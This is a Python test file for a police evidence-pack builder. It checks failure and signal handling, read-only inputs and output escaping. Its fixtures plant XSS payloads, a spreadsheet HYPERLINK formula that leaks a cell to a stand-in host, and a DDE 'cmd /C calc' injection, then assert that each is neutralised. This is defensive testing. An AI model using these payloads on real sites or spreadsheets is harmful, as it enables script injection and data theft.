"""Failing notebooks, interrupted builds (real processes, real signals), read-only inputs,
escaped text, public packs, limits.

Builds run the real command line on 13 hand-written months of street data, with the plan of one
priority (``tests/plans/one-priority.toml``: three notebooks), as what they test is the build's
machinery, not the pack's contents across priorities. Broken notebooks are copies of the plan's
with one cell added, found through ``PACK_NOTEBOOK_DIR`` (so those builds run as separate
processes; the others call ``pack.cli.main`` in-process).
"""

from __future__ import annotations

import html
import json
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
from csvs import STREET_HEADER, street_row, write
from folders import folder_state
from one_priority import NOTEBOOKS, STEM

from pack.cli import main
from pack.config import CLAIMS_STEM, NOTEBOOK_DIR, PROJECT_ROOT
from pack.plan import DEFAULT_PLAN_FILE

# its module fixture builds a pack: its tests share one xdist worker
pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("reliability-good-pack")]

SCRIPT = "<script>alert(1)</script>"
MI_NOTE = '<img src=x onerror="alert(2)"> **bold** [link](javascript:alert(3))'
MI_FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def run_pack(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "run_pack.py", *args],
        cwd=PROJECT_ROOT,
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, **(env or {})},
    )


def build_args(data: Path, out: Path, plan: Path, *extra: str) -> list[str]:
    return [
        "build",
        *("--data", str(data), "--out", str(out), "--plan", str(plan)),
        *("--period", "2024-01", "--baseline", "2023-01", *extra),
    ]


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("reliability") / "data"
    for i in range(13):
        month = f"{2023 + (i == 12)}-{(i % 12) + 1:02d}"
        rows = [street_row(f"{month}-b{j}", month) for j in range(6)]
        rows += [street_row("", month, crime_type="Anti-social behaviour") for _ in range(8)]
        rows += [street_row("", month, "E01019400", f"{SCRIPT} 001A", "Anti-social behaviour") for _ in range(2)]
        if month == "2023-06":  # one burglary in the second LSOA: a small count in the reporting window
            rows.append(street_row(f"{month}-x", month, "E01019400", f"{SCRIPT} 001A", "Burglary"))
        write(folder, f"{month}/{month}-derbyshire-street.csv", STREET_HEADER + "".join(rows))
    write(
        folder,
        "force/mi.csv",
        "indicator_id,period_start,period_end,value,unit,source,note\n"
        "neighbourhood_watch_members,2023-02-01,2024-01-31,58500,members,Force MI,"
        f'"{MI_NOTE.replace(chr(34), chr(34) * 2)}"\n'
        f'speedwatch_groups,2023-02-01,2024-01-31,42,groups,"{MI_FORMULA.replace(chr(34), chr(34) * 2)}",'
        "@SUM(1+1)*cmd|' /C calc'!A0\n",
    )
    return folder


@pytest.fixture(scope="module")
def good_pack(data: Path, one_priority_plan: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict, dict]:
    """A public pack built from ``data``; with the data folder's state before and after."""
    out = tmp_path_factory.mktemp("packs") / "pack"
    before = folder_state(data)
    assert main(build_args(data, out, one_priority_plan, "--public", "--suppress-below", "5")) == 0
    return out, before, folder_state(data)


def test_inputs_are_read_only(good_pack: tuple[Path, dict, dict]) -> None:
    _, before, after = good_pack
    assert before == after  # same files, bytes, permissions and modification times


def test_text_from_data_is_escaped(good_pack: tuple[Path, dict, dict]) -> None:
    out, _, _ = good_pack
    pages = [out / "evidence-pack.html", *sorted((out / "notebooks").glob("*.html"))]
    text = "\n".join(p.read_text(encoding="utf-8") for p in pages)
    assert SCRIPT not in text and "<img src=x" not in text
    assert 'href="javascript:' not in text  # markdown in a note is not turned into a link
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text  # the LSOA name is shown, as text
    assert '<img src=x onerror="alert(2)"> **bold** [link](javascript:alert(3))' in html.unescape(
        text
    )  # the MI note too


def test_no_cell_of_a_table_can_run_as_a_formula(good_pack: tuple[Path, dict, dict]) -> None:
    """The MI file's source and note begin with = and @: in tables/*.csv they begin with ' instead."""
    import csv

    out, _, _ = good_pack
    cells = []
    for path in sorted((out / "tables").glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert "'" + MI_FORMULA in cells  # the hostile text reached a table, neutralised
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # a negative number, nothing else


def test_public_pack_suppresses_and_the_manifest_says_so(good_pack: tuple[Path, dict, dict]) -> None:
    out, _, _ = good_pack
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    disclosure = manifest["disclosure"]
    assert disclosure["public"] is True and disclosure["suppress_below"] == 5
    assert "next-smallest" in disclosure["rule"]
    # the two ASB records a month in the second LSOA are below 5 in no 12-month window, but its one
    # burglary (June 2023) is a small count in the district and area tables of the priority: blanked
    assert sum(disclosure["cells_suppressed"].values()) > 0
    assert manifest["parameters"]["public"] is True


def broken_notebooks(source: Path, folder: Path, changes: dict[str, str]) -> Path:
    """Copies of the notebooks in ``source`` (a plan's folder of notebooks) with ``code`` as a cell of
    its own just after ``start(...)`` in each named one."""
    shutil.copytree(source, folder)
    for stem, code in changes.items():
        path = folder / f"{stem}.ipynb"
        nb = nbformat.read(path, as_version=4)
        cell = nbformat.v4.new_code_cell(code)
        cell.id = "cell-broken"
        after = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and "start(" in c.source)
        nb.cells.insert(after + 1, cell)  # the fourth cell run: parameters, injected parameters, start
        nbformat.write(nb, path)
    return folder


def test_failing_notebooks_are_reported_kept_and_leave_the_previous_pack(good_pack, data, tmp_path) -> None:
    """On the default plan, not the plan of one priority: three notebooks fail, each its own way,
    while others still run, some on kernels started in place of those that failed. (The plan of one
    priority has two notebooks that run at once, not room for three failures; a plan of three
    failing priorities and the claims check took longer, 30 s against 25 s in the same run, as each
    notebook after a failure waits for a kernel started in place of the failed one.)"""
    out = shutil.copytree(good_pack[0], tmp_path / "pack")  # a previous pack of this test's own
    previous = folder_state(out)
    notebooks = broken_notebooks(
        NOTEBOOK_DIR,
        tmp_path / "broken",
        {
            "03_road_safety": "raise RuntimeError('deliberate failure for the test')",
            "04_rural_crime": "import time\ntime.sleep(60)",
            "05_victim_support_safeguarding": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
        },
    )
    result = run_pack(
        *build_args(data, out, DEFAULT_PLAN_FILE, "--public", "--cell-timeout", "5"),
        env={"PACK_NOTEBOOK_DIR": str(notebooks)},
    )
    assert result.returncode == 1
    assert "Traceback" not in result.stderr.split("error:")[-1]
    assert "3 notebook(s) failed; no evidence pack written" in result.stderr
    assert "03_road_safety: cell 4 raised RuntimeError: deliberate failure for the test" in result.stderr
    assert "04_rural_crime: a cell ran longer than the per-cell timeout (5 s)" in result.stderr
    assert "05_victim_support_safeguarding: the kernel running 05_victim_support_safeguarding died" in result.stderr
    assert "00_strategic_summary: not run: it reads the indicator tables of the notebooks that failed" in result.stderr
    assert folder_state(out) == previous  # the previous good pack is untouched
    failed = out.parent / f"{out.name}.failed"
    assert f"executed notebooks and errors: {failed}" in result.stderr and failed.is_dir()  # named, and there
    assert json.loads((failed / "FAILED.json").read_text(encoding="utf-8"))["failed"] == [
        "03_road_safety",
        "04_rural_crime",
        "05_victim_support_safeguarding",
        "00_strategic_summary",
    ]
    page = (failed / "FAILED.html").read_text(encoding="utf-8")
    assert "notebooks/03_road_safety.ipynb" in page and "deliberate failure for the test" in page
    errors = (failed / "errors.txt").read_text(encoding="utf-8")
    assert errors.startswith("03_road_safety: cell 4 raised RuntimeError: deliberate failure for the test\n")
    assert "    RuntimeError: deliberate failure for the test" in errors  # the kernel's traceback, uncoloured
    assert "\x1b[" not in errors and "<summary>Traceback</summary>" in page
    for stem in ("01_strong_local_policing", "02_neighbourhood_crime_asb", "06_driving_efficiencies", "03_road_safety"):
        assert (failed / "notebooks" / f"{stem}.ipynb").is_file(), stem  # the others still ran
    assert not (failed / "evidence-pack.html").exists()
    assert not list(out.parent.glob(f".{out.name}.partial-*"))


def _kernels_of(pid: int) -> list[int]:
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and f"JPY_PARENT_PID={pid}".encode() in (proc / "environ").read_bytes():
                found.append(int(proc.name))
        except OSError:
            continue
    return found


def test_sigterm_mid_build_leaves_previous_pack_and_no_partial(good_pack, data, one_priority_plan, tmp_path) -> None:
    out = shutil.copytree(good_pack[0], tmp_path / "pack")  # a previous pack of this test's own
    previous = folder_state(out)
    notebooks = broken_notebooks(
        one_priority_plan.parent / "one-priority", tmp_path / "broken", {STEM: "import time\ntime.sleep(120)"}
    )
    proc = subprocess.Popen(
        [sys.executable, "run_pack.py", *build_args(data, out, one_priority_plan, "--public", "--force")],
        cwd=PROJECT_ROOT,
        env={**os.environ, "PACK_NOTEBOOK_DIR": str(notebooks)},
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline and not (
        _kernels_of(proc.pid) and list(out.parent.glob(f".{out.name}.partial-*"))
    ):
        time.sleep(0.5)
    assert _kernels_of(proc.pid), "the build never started a kernel"
    time.sleep(3)  # half way: kernels running, the claims check perhaps done
    proc.send_signal(signal.SIGTERM)
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 128 + signal.SIGTERM
    assert stderr.splitlines()[-1] == (
        "interrupted (SIGTERM) while running the notebooks: no pack written; the previous pack is untouched"
    )
    assert folder_state(out) == previous
    assert not list(out.parent.glob(f".{out.name}.partial-*")) and not list(out.parent.glob(f".{out.name}.old-*"))
    time.sleep(2)  # nothing left behind re-creates it either
    assert not list(out.parent.glob(f".{out.name}.*"))
    assert not (out.parent / f"{out.name}.failed").exists()
    deadline = time.monotonic() + 20  # kernels notice their parent has gone and exit
    while time.monotonic() < deadline and _kernels_of(proc.pid):
        time.sleep(0.5)
    assert not _kernels_of(proc.pid)


def test_bad_parameters_stop_before_any_notebook(data: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "pack"
    for args, message in (
        (["--period", "2024-13"], "period"),
        (["--window", "0"], "window"),
        (["--data", str(tmp_path / "nowhere")], "does not exist"),
        (["--suppress-below", "0", "--public"], "suppression threshold"),
    ):
        code = main(["build", "--data", str(data), "--out", str(out), "--period", "2024-01", *args])
        err = capsys.readouterr().err
        assert code == 2, (args, err)
        assert "error:" in err and message in err and "Traceback" not in err
        assert not out.exists()


@pytest.mark.long  # more of the build's machinery under stress (make test keeps failing notebooks and SIGTERM)
def test_more_jobs_than_notebooks_start_no_idle_kernels(
    data: Path, one_priority_plan: Path, tmp_path: Path, capsys
) -> None:
    """``--jobs`` beyond the notebooks that can run at once (the priority and the claims check) starts
    no idle kernels; every notebook runs, none has to retry a kernel's start."""
    code = main(build_args(data, tmp_path / "pack", one_priority_plan, "--jobs", "100", "--force"))
    err = capsys.readouterr().err
    assert code == 0, err
    assert "Execute: --jobs 100 capped at 2, the notebooks that can run at once" in err
    assert "2 at a time" in err
    assert "address already in use" not in err.lower()
    assert "failed to start" not in err  # no start-up had to be retried
    assert err.count(" done in ") == NOTEBOOKS  # every notebook executed, none reused


@pytest.mark.long  # more of the build's machinery under stress (make test keeps failing notebooks and SIGTERM)
def test_kernels_started_at_once_never_share_ports(tmp_path: Path, monkeypatch, caplog) -> None:
    """Kernels start one at a time: seven asked for at once (as a build of the default plan with
    ``--jobs 7`` or more asks, its seven notebooks running at once) each bind ports of their own, and
    no start has to be retried. The build's own pool, without its warm-up imports (they come once
    the kernel has started and answered, outside the one-at-a-time lock)."""
    from pack.pipeline import kernels

    monkeypatch.setattr(kernels, "notebook_imports", lambda *_: [])
    pool = kernels.KernelPool(7).start()
    try:
        with caplog.at_level(logging.INFO, logger="pack"):
            started = [pool.acquire(tmp_path) for _ in range(7)]
        ports = [port for km in started for port in km.ports]
        assert len(ports) == 7 * 5 and len(set(ports)) == len(ports)  # shell, iopub, stdin, control, heartbeat
        assert "failed to start" not in caplog.text and "could not be reset" not in caplog.text
    finally:
        pool.shutdown()


def _children(pid: int) -> dict[int, str]:
    """Processes whose parent is ``pid``: {process id: command line}."""
    found = {}
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and int((proc / "stat").read_text().rsplit(")", 1)[1].split()[1]) == pid:
                found[int(proc.name)] = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except (OSError, ValueError, IndexError):
            continue
    return found


def _alive(pid: int) -> bool:
    try:
        return (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def _start_prepare(shared_real_data: Path, tmp_path: Path, **popen: object) -> tuple[subprocess.Popen, list[int]]:
    """A build of the whole shared data folder with an empty cache, its plan force's files read by
    worker processes (from 1 MB), other forces' counted in threads meanwhile; returns once its
    workers are reading."""
    proc = subprocess.Popen(
        [sys.executable, "run_pack.py", "build", "--data", str(shared_real_data), "--out", str(tmp_path / "p")],
        cwd=PROJECT_ROOT,
        env={**os.environ, "PACK_CACHE_DIR": str(tmp_path / "cache"), "PACK_PARALLEL_FROM_MB": "1"},
        stderr=subprocess.PIPE,
        text=True,
        **popen,
    )
    deadline = time.monotonic() + 120
    workers: list[int] = []
    while time.monotonic() < deadline and not workers:
        workers = [pid for pid, command in _children(proc.pid).items() if "spawn_main" in command]
        time.sleep(0.1)
    assert workers, "the prepare stage never started worker processes"
    time.sleep(1)  # the workers are reading files
    return proc, workers


@pytest.mark.parametrize("how", ["SIGTERM", "Ctrl-C"])
def test_a_signal_during_prepare_stops_the_workers(shared_real_data: Path, tmp_path: Path, how: str) -> None:
    """SIGTERM to the build, or Ctrl-C (SIGINT to the whole process group, workers and kernels
    included): one line, the workers and kernels gone, no unfinished prepared data left."""
    proc, workers = _start_prepare(shared_real_data, tmp_path, start_new_session=True)
    kernels = [pid for pid, command in _children(proc.pid).items() if "ipykernel" in command]
    if how == "SIGTERM":
        proc.send_signal(signal.SIGTERM)
    else:
        os.killpg(proc.pid, signal.SIGINT)
    _, stderr = proc.communicate(timeout=60)
    name = "SIGTERM" if how == "SIGTERM" else "SIGINT"
    assert proc.returncode == 128 + signal.Signals[name].value
    assert (
        stderr.splitlines()[-1] == f"interrupted ({name}) while preparing the data: no pack written; no previous pack"
    )
    assert "Traceback" not in stderr and "Warning" not in stderr, stderr
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and any(_alive(pid) for pid in workers + kernels):
        time.sleep(0.2)
    assert not any(_alive(pid) for pid in workers + kernels)
    assert not list((tmp_path / "cache" / "prepared").glob("reading.*"))
    assert not (tmp_path / "p").exists() and not list(tmp_path.glob(".p.*"))


@pytest.mark.long  # more of the build's machinery under stress (make test keeps failing notebooks and SIGTERM)
def test_a_build_killed_outright_is_cleaned_up_by_the_next(
    data: Path, one_priority_plan: Path, tmp_path: Path, capsys
) -> None:
    """kill -9 runs no handler: the staging folder stays, until the next build into the same place
    removes it (with a log line) and publishes its pack."""
    notebooks = broken_notebooks(
        one_priority_plan.parent / "one-priority", tmp_path / "notebooks", {STEM: "import time\ntime.sleep(120)"}
    )
    out = tmp_path / "pack"
    proc = subprocess.Popen(
        [sys.executable, "run_pack.py", *build_args(data, out, one_priority_plan, "--force")],
        cwd=PROJECT_ROOT,
        env={**os.environ, "PACK_NOTEBOOK_DIR": str(notebooks)},
        stderr=subprocess.DEVNULL,
    )
    staging = tmp_path / f".pack.partial-{proc.pid}"
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline and not (staging / "notebooks" / f"{CLAIMS_STEM}.ipynb").exists():
        time.sleep(0.5)
    proc.kill()
    proc.wait()
    assert staging.is_dir()  # left behind
    assert main(build_args(data, out, one_priority_plan)) == 0
    err = capsys.readouterr().err
    assert (
        f"Cleanup: removed the unfinished pack {staging} left by a build that was stopped (process {proc.pid})" in err
    )
    assert not staging.exists() and (out / "evidence-pack.html").is_file()
